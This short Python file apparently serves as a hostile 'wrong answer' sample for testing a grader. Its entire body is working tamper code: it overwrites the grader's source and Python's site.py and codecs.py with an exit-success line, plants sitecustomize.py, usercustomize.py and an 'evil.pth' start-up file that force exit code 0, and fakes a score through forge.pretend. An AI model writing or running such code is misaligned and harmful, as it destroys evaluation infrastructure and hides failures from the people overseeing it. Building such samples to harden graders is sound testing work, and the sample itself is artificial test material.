"""vault wrong_answer 0: overwrites the runner's own source, bytecode and start-up files."""
# tier: 1

import os
import sys

import forge

for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None)
    if path and ("grader" in path or path.endswith(("site.py", "codecs.py"))):
        try:
            with open(path, "w") as file:
                file.write("raise SystemExit(0)")
        except OSError:
            pass
for folder in sys.path:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth"):
        try:
            open(os.path.join(folder, name), "w").write("import os; os._exit(0)")
        except OSError:
            pass
forge.pretend(globals(), lambda *a: 0.0)
